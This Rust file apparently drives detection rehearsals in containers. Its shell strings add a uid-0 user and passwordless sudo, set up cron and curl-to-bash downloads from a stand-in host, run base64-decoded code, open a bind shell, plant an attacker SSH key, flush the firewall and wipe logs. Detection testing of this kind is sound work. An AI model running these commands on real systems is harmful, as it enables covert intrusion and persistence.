//! Deeds of somebody who has a shell, with Debian's real tools.

use crate::keys::{KeyNeeds, KeyRehearsal, RehearsalError, Service, Stage, run, shell};

/// A user with every right, and another one made so.
const ACCOUNTS: &str = "useradd --non-unique --uid 0 --gid 0 --no-create-home sysadm && useradd helper && \
    usermod -aG sudo helper && echo 'helper ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/helper";
const CRONTAB: &str = "(crontab -l 2>/dev/null; \
    echo '*/5 * * * * curl -fsS http://203.0.113.7/i.sh | bash') | crontab - && crontab -l | grep -q curl";
/// gdb makes another process call a function.
const GDB: &str = "sleep 20 & p=$!; sleep 0.2; \
    timeout 10 gdb -p $p -batch -nx -ex 'call (int)getpid()' -ex detach 2>&1 | grep -q detached; \
    e=$?; kill $p; exit $e";
/// A library that was just built is put before a program's own.
const PRELOAD: &str = "printf 'int puts(const char *s);\\n__attribute__((constructor)) static void here(void) { puts(\"here\"); }\\n' \
    >/tmp/hook.c && cc -shared -fPIC -o /tmp/hook.so /tmp/hook.c && LD_PRELOAD=/tmp/hook.so id | grep -q here";
const ENCODED: &str = "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | bash && \
    python3 -c 'import base64; exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=\"))' && \
    perl -MMIME::Base64 -e 'eval(decode_base64(\"c3lzdGVtKCJpZCIp\"))'";
const MUTATE: &str = "cc -Os -o /tmp/.cache-start /opt/servers/mutate.c && /tmp/.cache-start 3";
/// Discovery, as it is typed.
const LOOK_AROUND: &str = "whoami; id; hostname; uname -a; cat /etc/os-release; ps aux; ss -tlnp; ip addr; ip route; \
    cat /etc/passwd; ls -la /root /home; env; mount; df -h; crontab -l; find / -perm -4000 -type f 2>/dev/null | head; true";
/// Tracks are covered and rivals are stopped; a stand-in carries the rival's name.
const TRACKS: &str = "cp /bin/sleep /tmp/kinsing; /tmp/kinsing 20 & sleep 0.1; pkill -9 kinsing; \
    curl -fsS -o /tmp/agent.sh http://203.0.113.7/agent.sh && chmod +x /tmp/agent.sh && /tmp/agent.sh; \
    ln -sf /dev/null ~/.bash_history; : >/var/log/wtmp; rm -f /var/log/auth.log; unset HISTFILE";
const PIPED: &str =
    "curl -fsS http://203.0.113.7/i.sh | bash && wget -q -O- http://203.0.113.7/i.sh | sh";
const TOOLS: &str = "timeout 2 tcpdump -i lo -c 1 >/dev/null 2>&1; sleep 5 & timeout 2 strace -p $! >/dev/null 2>&1; \
    kill %1 2>/dev/null; nsenter --target 1 --uts hostname; true";
const FLUSH: &str = "iptables -F && iptables -P INPUT ACCEPT && chattr +i /etc/hostname; true";
const LISTENERS: &str = "timeout 2 ncat -l 31337 & timeout 2 socat TCP-LISTEN:31338,fork,reuseaddr - & \
    timeout 2 nc -l -p 31339 & timeout 2 bash -c 'exec nc -lk 31340' & wait; true";
const BIND_SHELL: &str = "ncat -l 4446 -e /bin/bash --allow 127.0.0.1 & sleep 0.5; echo id | timeout 2 nc -N 127.0.0.1 4446; kill %1; \
    mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFlhZ3VyYVJlaGVhcnNhbE5vdEFSZWFsS2V5MDAwMDAwMDA attacker' \
    >>/root/.ssh/authorized_keys; echo /usr/local/lib/none.so >/etc/ld.so.preload; rm -f /etc/ld.so.preload";

/// Every one.
pub(super) const REHEARSALS: &[KeyRehearsal] = &[
    shell(
        "proc.linux_account_creation",
        "full-useradd",
        "useradd with uid 0, usermod into sudo, a file of sudoers",
        KeyNeeds::full(&["useradd", "usermod"]),
        ACCOUNTS,
    ),
    shell(
        "proc.crontab_injection",
        "full-crontab",
        "crontab takes a table with a downloader",
        KeyNeeds::full(&["crontab"]),
        CRONTAB,
    ),
    shell(
        "proc.script_injection",
        "full-gdb",
        "gdb makes another process call a function",
        KeyNeeds::full(&["gdb"]),
        GDB,
    ),
    shell(
        "proc.script_injection",
        "full-preload",
        "a library that was just built is preloaded",
        KeyNeeds::full(&["cc"]),
        PRELOAD,
    ),
    shell(
        "proc.script_injection",
        "full-encoded",
        "base64 into bash, python and perl",
        KeyNeeds::full(&["bash", "python3", "perl"]),
        ENCODED,
    ),
    shell(
        "malware.self_mutating_trojan",
        "full-mutation",
        "a compiled program writes longer copies of itself and runs them, three generations",
        KeyNeeds::full(&["cc"]),
        MUTATE,
    ),
    shell(
        "malware.backdoor",
        "full-bind-shell",
        "ncat serves a shell; authorized_keys and ld.so.preload are written",
        KeyNeeds::full(&["ncat", "nc"]),
        BIND_SHELL,
    ),
    run(
        "proc.linux_command",
        "full-piped-download",
        "curl and wget into shells",
        KeyNeeds::full(&["curl", "wget", "bash"]),
        |stage| with_stub(stage, PIPED),
    ),
    run(
        "proc.linux_command",
        "full-firewall",
        "the firewall is emptied and a file made immutable",
        KeyNeeds::full(&["iptables", "chattr"]),
        |stage| {
            let mut options = stage.options();
            options.capabilities = &["NET_ADMIN", "LINUX_IMMUTABLE"];
            let container = stage.start(&options)?;
            stage.act_shell(&container, FLUSH)
        },
    ),
    run(
        "proc.linux_command_sequence",
        "full-sequence",
        "discovery, download and run, a rival stopped, tracks covered, in one session",
        KeyNeeds::full(&["curl", "ps", "ss"]),
        |stage| with_stub(stage, &format!("{LOOK_AROUND}; {TRACKS}")),
    ),
    shell(
        "proc.suspicious_command",
        "full-tools",
        "tcpdump, strace and nsenter in a container that never used them",
        KeyNeeds::full(&["tcpdump", "strace", "nsenter"]),
        TOOLS,
    ),
    shell(
        "proc.port_listen",
        "full-listeners",
        "ncat, socat and netcat listen",
        KeyNeeds::full(&["ncat", "socat", "nc"]),
        LISTENERS,
    ),
];

/// A line of shell that downloads from a stub.
fn with_stub(stage: &mut Stage, line: &str) -> Result<(), RehearsalError> {
    let container = stage.start(&stage.options())?;
    let peer = stage.peer(&container)?;
    peer.serve(80, Service::Http("#!/bin/sh\nid\nuname -a\n"))?;
    stage.act(&container, &["/bin/bash", "-c", line], "")
}
